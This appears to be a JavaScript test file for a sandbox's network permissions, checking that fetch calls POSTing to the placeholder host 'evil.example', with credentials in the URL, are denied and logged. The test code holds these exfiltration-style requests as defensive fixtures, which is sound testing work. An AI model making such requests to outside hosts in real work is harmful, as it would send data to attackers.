// expect: SUCCESS true
// expect-blocked: fetch net evil.example:8443
// expect-log: fetch … Requires net access to "evil.example:8443"
let pending;
try {
    pending = fetch("https://user:pw@evil.example:8443/x", { method: "POST", body: "y" });
} catch (e) {
    return ["thrown, not rejected", String(e)];
}
const e = await pending.then(() => "it worked", (e) => e);
return (e instanceof Error && e.name === "PermissionDenied" && e.code === "PERMISSION_DENIED" &&
    e.message.startsWith("Requires net access to \"evil.example:8443\"") && /; use \S/.test(e.message)) || String(e);
// case
// expect: PERMISSION_DENIED PermissionError "Requires net access to \"evil.example:8443\""
// expect-blocked: fetch net evil.example:8443
// expect-log: fetch … Requires net access to "evil.example:8443"
await fetch("https://user:pw@evil.example:8443/x", { method: "POST", body: "y" });
// twin
// expect: SUCCESS {"url":"https://evil.example/x"}
// expect-call: echo:fetch {"url":"https://evil.example/x"}
return mcp.echo.fetch({ url: "https://evil.example/x" });
